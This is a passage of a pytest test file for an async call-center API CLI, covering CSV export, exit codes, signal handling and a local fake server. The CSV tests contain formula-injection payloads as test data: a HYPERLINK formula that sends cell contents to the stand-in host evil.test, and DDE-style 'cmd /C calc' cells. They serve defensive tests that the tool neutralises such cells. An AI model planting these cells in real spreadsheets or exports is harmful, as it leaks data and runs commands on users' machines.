            self.data = HostileData(fields={"caller": HOSTILE}, transcript=HOSTILE)

    monkeypatch.setattr(_fake_server, "FakeAlohub", HostileFake)
    assert await run(["demo"]) == 0
    out = capsys.readouterr().out
    assert ACTING.search(out) is None
    assert re.search(rf"^  \S+  inbound   {re.escape(VISIBLE)} -> ", out, re.MULTILINE)
    assert re.search(rf"^  \[ *[\d.]+s\] {re.escape(VISIBLE)}", out, re.MULTILINE)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.test/?"&A1,"x")', '\'=HYPERLINK("http://evil.test/?"&A1,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("+84901234567", "+84901234567"),
        ("+84 (90) 123-4567", "+84 (90) 123-4567"),
        ("-12.5", "-12.5"),
        ("Nguyễn = Bùi", "Nguyễn = Bùi"),
    ],
)
async def test_csv_defuses_formula_cells_and_keeps_numbers(
    cell: str, written: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A cell a spreadsheet would run gets a leading ``'``; phone numbers and numbers do not."""
    async with serving(HostileData(fields={"customerName": cell, "agentName": cell})) as fake:
        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "csv")) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == CALLS
    assert {(row["customer_name"], row["agent"]) for row in rows} == {(written, written)}


async def test_csv_raw_writes_cells_exactly(capsys: pytest.CaptureFixture[str]) -> None:
    """``--csv-raw`` writes every cell as received, formulas and escapes included."""
    fields = {"customerName": "=1+1", "agentName": HOSTILE, "caller": "-2+3+cmd|' /C calc'!A0"}
    async with serving(HostileData(fields=fields)) as fake:
        args = ["--format", "csv", "--csv-raw"]
        assert await run(connect(fake, "calls", "list", *RANGE, *args)) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == CALLS
    assert {(r["customer_name"], r["agent"], r["caller"]) for r in rows} == {tuple(fields.values())}


async def test_csv_on_a_terminal_shows_escapes_visibly(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """CSV printed on a terminal gets visible escapes too (a file gets the exact cells)."""
    tty = FakeTty()
    monkeypatch.setattr(sys, "stdout", tty)
    async with serving(HostileData(fields={"agentName": HOSTILE})) as fake:
        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "csv")) == 0
    out = tty.getvalue()
    assert ACTING.search(out) is None
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == CALLS
    assert {row["agent"] for row in rows} == {VISIBLE}


async def test_csv_raw_without_csv_format_exits_2_before_any_request(
    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--csv-raw`` with another format is a usage error, found before any request."""
    args = connect(fake, "calls", "list", *RANGE, "--format", "jsonl", "--csv-raw")
    assert await run(args) == ExitCode.USAGE
    assert "--csv-raw" in one_error_line(capsys.readouterr().err)
    assert fake.counters.requests == 0


# --- main() -------------------------------------------------------------------------------


def test_main_returns_the_exit_code(capsys: pytest.CaptureFixture[str]) -> None:
    """``main()`` runs the command in its own event loop and returns the exit code."""
    args = ["--api-key", API_KEY, "--access-token", ACCESS_TOKEN, "calls", "get", "a/b"]
    assert main(args) == ExitCode.USAGE
    one_error_line(capsys.readouterr().err)


def test_main_returns_130_on_ctrl_c(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A KeyboardInterrupt becomes exit code 130 and one line, not a traceback."""

    async def interrupted(args: Any) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(_fake_server, "demo", interrupted)
    assert main(["demo"]) == ExitCode.INTERRUPTED
    assert capsys.readouterr().err == "alohub-async: interrupted\n"


# --- demo and fake-server, in process -----------------------------------------------------


async def test_demo_prints_the_summary(
    no_retry_waits: None, capsys: pytest.CaptureFixture[str]
) -> None:
    """``demo`` lists 2,000 calls with two retries, shows a transcript and exits 0."""
    assert await run(["demo"]) == 0
    out, err = capsys.readouterr()
    assert "calls         2,000" in out
    assert "iter_calls(2026-01-01 00:00:00 .. 2026-01-31 23:59:59," in out  # whole days
    assert "retries 2" in out
    assert "Transcript of " in out
    assert re.search(r"[\d.]+s at concurrency 1 \([\d.]+x faster\)", out)
    assert err == ""


async def test_fake_server_in_process_prints_banner_and_restores_signals(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``fake-server`` prints its URL and exports; once stopped, signal handlers are restored."""
    before = signal.getsignal(signal.SIGTERM)
    task = asyncio.ensure_future(run(["fake-server", "--port", "0", "--calls", "10"]))
    out = ""
    for _ in range(int(WAIT * 100)):
        await asyncio.sleep(0.01)
        out += capsys.readouterr().out
        if "Press Ctrl-C" in out:
            break
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    out += capsys.readouterr().out
    assert re.search(r"Fake Alohub listening on http://127\.0\.0\.1:\d+", out)
    assert f"ALOHUB_API_KEY={DEMO_API_KEY}" in out
    assert signal.getsignal(signal.SIGTERM) == before


async def test_fake_server_port_in_use_exits_5(capsys: pytest.CaptureFixture[str]) -> None:
    """``fake-server`` on a port that is taken exits 5 with one line."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()
        port = str(sock.getsockname()[1])
        assert await run(["fake-server", "--port", port]) == ExitCode.NETWORK
    assert port in one_error_line(capsys.readouterr().err)


# --- end to end, in subprocesses ------------------------------------------------------------


def test_demo_subprocess_exits_0_with_summary() -> None:
    """``python -m alohub_async demo`` runs the real retry waits and exits 0."""
    result = subprocess.run(
        cli_command("demo"),
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=child_env(),
        timeout=WAIT,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "calls         2,000" in result.stdout
    assert "pages 40 · requests 43 · retries 2" in result.stdout
    assert result.stderr == ""


def test_fake_server_banner_shows_demo_credentials(server: ServerProcess) -> None:
    """Without credential flags, fake-server accepts and prints the demo credentials."""
    text = "\n".join(server.banner)
    assert f"API key:      {DEMO_API_KEY}" in text
    assert f"access token: {DEMO_ACCESS_TOKEN}" in text


def test_jsonl_from_a_fake_server_subprocess_has_every_call(server: ServerProcess) -> None:
    """``calls list --format jsonl`` against ``fake-server`` prints exactly N lines."""
    result = subprocess.run(
        cli_command("calls", "list", *RANGE, "--format", "jsonl"),
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=server_env(server),
        timeout=WAIT,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 500
    assert len({json.loads(line)["call_id"] for line in lines}) == 500
    assert result.stderr == ""


def test_get_from_a_fake_server_subprocess_prints_the_transcript(server: ServerProcess) -> None:
    """``calls get`` in a subprocess prints a transcript of an answered call."""
    env = server_env(server)
    listing = subprocess.run(
        cli_command("calls", "list", *RANGE, "--format", "csv"),
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=env,
        timeout=WAIT,
        check=True,
    )
    rows = csv.DictReader(io.StringIO(listing.stdout))
    call_id = next(row["call_id"] for row in rows if row["status"] == "answered")
    result = subprocess.run(
        cli_command("calls", "get", call_id),
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=env,
        timeout=WAIT,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "Transcript (" in result.stdout
    assert "agent: " in result.stdout


@POSIX_ONLY
def test_closed_pipe_exits_141_without_traceback(server: ServerProcess) -> None:
    """Closing the reading end (like ``| head``) ends the command with 141, silently."""
    with subprocess.Popen(
        cli_command("calls", "list", *RANGE, "--format", "jsonl"),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=server_env(server),
    ) as proc:
        assert proc.stdout is not None
        assert proc.stderr is not None
        assert proc.stdout.readline().startswith(b"{")
        proc.stdout.close()
        err = proc.stderr.read()
        assert proc.wait(timeout=WAIT) == ExitCode.BROKEN_PIPE
    assert err == b""


@POSIX_ONLY
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_fake_server_stops_cleanly_on_signal(signum: signal.Signals) -> None:
    """fake-server shuts down on SIGTERM or SIGINT and exits 0 without a traceback."""
    with fake_server("--calls", "10", quiet=True) as process:
        process.proc.send_signal(signum)
        rest = process.rest()
        assert process.proc.returncode == 0
        assert process.proc.stderr is not None
        assert process.proc.stderr.read() == ""
    assert rest == []


def test_fake_server_port_0_and_custom_credentials() -> None:
    """``--port 0`` prints the real port; custom credentials appear in the export line."""
    with fake_server("--calls", "10", "--api-key", "K1", "--access-token", "T1") as process:
        assert not process.url.endswith(":0")
        assert server_env(process)["ALOHUB_API_KEY"] == "K1"
        assert server_env(process)["ALOHUB_ACCESS_TOKEN"] == "T1"
        assert server_env(process)["ALOHUB_BASE_URL"] == process.url


@POSIX_ONLY
async def test_ctrl_c_during_a_walk_exits_130(fake: FakeAlohub) -> None:
    """SIGINT while requests are in flight exits 130 with one line and no traceback."""
    fake.latency = 5.0
    proc = await asyncio.create_subprocess_exec(
        *cli_command(*connect(fake, "calls", "list", *RANGE)),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env=child_env(),
    )
    try:
        for _ in range(int(WAIT * 20)):
            if fake.counters.requests:
                break
            await asyncio.sleep(0.05)
        proc.send_signal(signal.SIGINT)
        out, err = await asyncio.wait_for(proc.communicate(), WAIT)
    finally:
        if proc.returncode is None:
            proc.kill()
            await proc.wait()
    assert proc.returncode == ExitCode.INTERRUPTED
    assert (out, err) == (b"", b"alohub-async: interrupted\n")
